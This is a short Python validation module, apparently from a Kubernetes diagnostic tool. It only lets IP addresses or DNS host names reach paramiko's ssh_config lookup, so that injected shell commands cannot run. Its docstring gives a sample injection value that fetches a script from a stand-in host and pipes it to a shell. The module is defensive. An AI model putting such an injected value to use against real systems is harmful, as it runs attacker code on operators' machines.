"""Is a node name or address from the API or a bundle safe to hand to ssh_config matching?

paramiko's `SSHConfig.lookup(host)` expands `%h` into `Match exec "..."` commands and runs them through a
shell, so a hostile Node name or InternalIP (`x;curl evil|sh`) in the API or a bundle would run on the
operator's machine. Only an IP address or a host name by the DNS rules (RFC 1123 labels) passes.
"""

from __future__ import annotations

import re

from kpdoctor.addresses import is_ip

_LABEL = re.compile(r"^[A-Za-z0-9]([A-Za-z0-9-]{0,61}[A-Za-z0-9])?$")


def is_hostname(value: str) -> bool:
    """A DNS host name: dot-separated labels of letters, digits and inner hyphens, at most 253 characters."""
    name = value[:-1] if value.endswith(".") else value
    return 0 < len(name) <= 253 and all(_LABEL.match(label) for label in name.split("."))


def is_host(value: str) -> bool:
    """An IP address or a DNS host name (what may reach an ssh_config lookup)."""
    return is_ip(value) or is_hostname(value)
